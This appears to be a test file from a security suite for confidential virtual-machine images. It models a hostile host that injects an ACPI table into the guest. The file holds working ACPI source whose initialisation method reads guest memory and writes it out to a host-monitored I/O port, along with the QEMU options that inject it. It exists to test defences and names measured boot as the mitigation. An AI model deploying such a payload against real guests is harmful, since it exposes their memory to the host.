# SPDX-FileCopyrightText: 2026 the sealedroot.image authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""The host adds an ACPI table with a program of its own, which the kernel runs.

The guest cannot refuse it.

Why: the program runs in the kernel's interpreter and may read and write any memory of the guest.
"""

from __future__ import annotations

from attack_images import ONE_EACH
from attacks import Attack, Outcome, Stage, stopped, won
from guests import Guest
from hostile import run

# It reads memory (the first bytes of the firmware's EBDA area), and writes to a port that the host listens to.
SOURCE = """
DefinitionBlock ("", "SSDT", 2, "HOST", "HOSTILE", 1)
{
    Scope (\\_SB)
    {
        Device (HOST)
        {
            Name (_HID, "HOST0001")
            OperationRegion (PORT, SystemIO, 0x0402, 1)
            Field (PORT, ByteAcc, NoLock, Preserve) { BYTE, 8 }
            OperationRegion (MEMO, SystemMemory, 0x00100000, 8)
            Field (MEMO, DWordAcc, NoLock, Preserve) { WORD, 32 }
            Method (_INI, 0, Serialized)
            {
                Local0 = ToBuffer (Concatenate ("HOST-ACPI ", ToHexString (WORD)))
                Local1 = 0
                While (Local1 < SizeOf (Local0))
                {
                    BYTE = DerefOf (Local0 [Local1])
                    Local1++
                }
            }
        }
    }
}
"""


def prepare(stage: Stage) -> None:
    source = stage.folder / "host.asl"
    source.write_text(SOURCE)
    run("iasl", "-p", source.with_suffix(""), source)
    stage.more += [
        *("-acpitable", f"file={source.with_suffix('.aml')}"),
        *("-debugcon", f"file:{stage.folder / 'port'}", "-global", "isa-debugcon.iobase=0x402"),
    ]


def probe(stage: Stage, guest: Guest) -> Outcome:
    guest.run("ls /sys/firmware/acpi/tables")
    said = (stage.folder / "port").read_text(errors="replace")
    _before, found, after = said.partition("HOST-ACPI ")
    return won(f"the kernel ran it: «{found}{after[:10]}»") if found else stopped("it did not run")


ATTACK = Attack(
    images=ONE_EACH,
    prepare=prepare,
    probe=probe,
    open_because="the firmware hands the tables over, and no kernel argument of a distribution's refuses them.",
    combine_with="a measured boot whose policy covers the tables (TDX: RTMR0; a vTPM: PCR 0 and 1).",
)
